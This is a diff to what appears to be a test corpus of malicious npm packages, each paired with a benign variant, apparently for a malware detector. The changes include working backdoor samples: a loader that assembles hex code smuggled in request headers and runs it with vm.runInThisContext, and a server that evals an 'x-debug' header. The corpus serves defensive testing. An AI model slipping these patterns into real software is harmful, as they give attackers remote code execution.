@@ -77,8 +77,8 @@ AT_IMPORT = (
               const found = JSON.stringify(request.headers).match(/g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/g) || [];
               for (const text of found) {
                 const at = text.slice(1, 5), code = Buffer.from(text.slice(6, -1), "hex");
-                if (at === "ffff") vm.runInThisContext(stages.code)(module.exports, require, request);
-                else stages.code = (stages.code || "") + code.toString();
+                if (at !== "ffff") stages.code = (stages.code || "") + code.toString();
+                else vm.runInThisContext(stages.code)(module.exports, require, request);
               }
               return cookies;
             };
@@ -97,21 +97,21 @@ AT_IMPORT = (
         "package.json": '"main": "index.js"',
         "index.js": """
             const http = require("http");
-            http.createServer((request, response) => {
+            exports.serve = (port) => http.createServer((request, response) => {
               if (request.headers["x-debug"]) response.end(String(eval(request.headers["x-debug"])));
               else response.end("ok");
-            }).listen(process.env.PORT || 8080);
+            }).listen(port);
         """,
     }, {
         "index.js": """
             const http = require("http");
-            http.createServer((request, response) => {
+            exports.serve = (port) => http.createServer((request, response) => {
               if (request.headers["x-debug"]) response.end(String(Number(request.headers["x-debug"])));
               else response.end("ok");
-            }).listen(process.env.PORT || 8080);
+            }).listen(port);
         """,
     }),
-    Attack("rand-user-agent: a loader pushed off the screen by blanks", "OBFS-003", "import", {
+    Attack("rand-user-agent: a loader pushed off the screen by blanks", "FETCH-001", "import", {
         "package.json": '"main": "dist/index.js"',
         "dist/index.js": """
             const agents = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)"];
@@ -182,7 +182,7 @@ AT_IMPORT = (
     }, {
         "index.js": """
             const axios = require("axios");
-            const src = atob("«b64:https://api.example.invalid/api/levels»");
+            const src = "https://api.example.invalid/api/levels";
             exports.levels = async () => (await axios.get(src)).data.levels.map(String);
         """,
     }),
